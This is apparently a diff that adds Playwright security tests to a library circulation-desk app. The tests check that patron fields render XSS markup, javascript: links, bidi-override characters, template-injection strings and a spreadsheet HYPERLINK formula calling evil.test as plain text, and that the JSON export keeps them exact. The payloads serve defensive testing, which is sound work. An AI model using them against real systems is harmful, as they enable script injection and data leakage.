@@ -1,0 +1,98 @@
+// Text that strangers typed: markup, links, letters that turn the line round, formulas. It is shown as text, kept to the
+// letter, and stands in the patron data file as it is.
+import { readdir, readFile } from 'node:fs/promises';
+import { join } from 'node:path';
+import { cardOf } from '../../drive/central.ts';
+import { expect, test } from './attacked.ts';
+
+// Playwright takes a navigation that was refused for one that may yet come, and waits: so not after those attacks.
+test.use({ apart: 'text' });
+test.describe.configure({ mode: 'serial' });
+
+const TEXTS = {
+  markup: `<img src=x onerror="globalThis.attackRan=true"><script>globalThis.attackRan=true</script>`,
+  link: 'https://evil.test/?click=me javascript:alert(1)',
+  override: 'Lind\u202Eqvist\u2066\u200F',
+  formula: `=HYPERLINK("https://evil.test/"&A1;"x")`,
+  template: '{{ constructor.constructor("globalThis.attackRan=true")() }} ${7*7} %s %00',
+  script: `'"><svg/onload=globalThis.attackRan=true>//`,
+};
+
+test('is shown as text in the windows, in every field that takes text', async ({ attacked }) => {
+  const { desk, colleague, patron, window } = attacked;
+  const { markup, link, override, formula, template, script } = TEXTS;
+  await colleague.saveSection(patron.id, 'personal', {
+    givenName: markup,
+    familyName: `${override}${script}`,
+  });
+  await colleague.saveSection(patron.id, 'address', { line1: link, line2: template, town: formula });
+  await colleague.saveSection(patron.id, 'note', { staffNote: `${markup}\n${formula}\n${link}` });
+  const { v7 } = await import('uuid');
+  const blocked = await colleague.act('POST', `/patrons/${patron.id}/blocks`, {
+    id: v7(),
+    comment: `${script} ${template} ${link}`,
+  });
+  expect(blocked.status).toBe(201);
+  const links = async (page: typeof window) => page.locator('a[href]').count();
+  const [before, beforeOnDesk] = [await links(window), await links(desk.desk)];
+
+  await desk.desk.evaluate(() => globalThis.window.circdesk.sync.now({}));
+  for (const text of [markup, link, override, script, template, formula])
+    await expect(window.locator('body')).toContainText(text, { useInnerText: false });
+  await desk.search(cardOf(patron));
+  await expect(desk.hit(cardOf(patron))).toContainText(markup);
+  for (const page of [desk.desk, window]) {
+    expect(await page.locator('img, body script, body svg[onload], iframe, object').count()).toBe(0);
+    expect(await page.evaluate(() => 'attackRan' in globalThis)).toBe(false);
+  }
+  expect([await links(window), await links(desk.desk)]).toEqual([before, beforeOnDesk]);
+});
+
+test('that turns the line round stays within itself: what stands beside it is not turned', async ({
+  attacked,
+}) => {
+  const { desk, patron, window } = attacked;
+  const isolated = (page: typeof window) =>
+    page.evaluate((text) => {
+      const walker = document.createTreeWalker(document.body, NodeFilter.SHOW_TEXT);
+      const apart: boolean[] = [];
+      for (let node = walker.nextNode(); node; node = walker.nextNode()) {
+        if (!node.textContent?.includes(text)) continue;
+        let holds = false;
+        for (let at = node.parentElement; at && at !== document.body; at = at.parentElement) {
+          const { unicodeBidi, display } = getComputedStyle(at);
+          holds ||=
+            /isolate|plaintext/.test(unicodeBidi) ||
+            ['block', 'flex', 'table-cell', 'list-item'].includes(display);
+        }
+        apart.push(holds);
+      }
+      return apart;
+    }, TEXTS.override);
+  await desk.search(cardOf(patron));
+  await expect(desk.hit(cardOf(patron))).toContainText(TEXTS.override);
+  for (const page of [desk.desk, window]) {
+    const apart = await isolated(page);
+    expect(apart.length).toBeGreaterThan(0);
+    expect(apart).not.toContain(false);
+  }
+});
+
+test('stands in the JSON file to the letter, and the file’s name and the window’s title hold none of it', async ({
+  attacked,
+}) => {
+  const { desk, folders, window } = attacked;
+  await window.getByRole('button', { name: 'Download patron data' }).click();
+  await expect(window.getByRole('button', { name: 'Show in folder' })).toBeVisible();
+  const name = (await readdir(folders.downloads)).find((one) => one.endsWith('.json')) ?? '';
+  expect(name).toMatch(/^patron-data-[\d-]+-[0-9a-f]+\.json$/);
+  const text = await readFile(join(folders.downloads, name), 'utf8');
+  const personal = (JSON.parse(text) as { patron: { personal: Record<string, string> } }).patron.personal;
+  expect(personal).toMatchObject({ givenName: TEXTS.markup, familyName: `${TEXTS.override}${TEXTS.script}` });
+  for (const letters of [TEXTS.formula, TEXTS.link])
+    expect(text).toContain(JSON.stringify(letters).slice(1, -1));
+  const titles = await desk.app.evaluate(({ BrowserWindow }) =>
+    BrowserWindow.getAllWindows().map((w) => w.getTitle()),
+  );
+  expect(new Set(titles)).toEqual(new Set(['Circdesk']));
+});
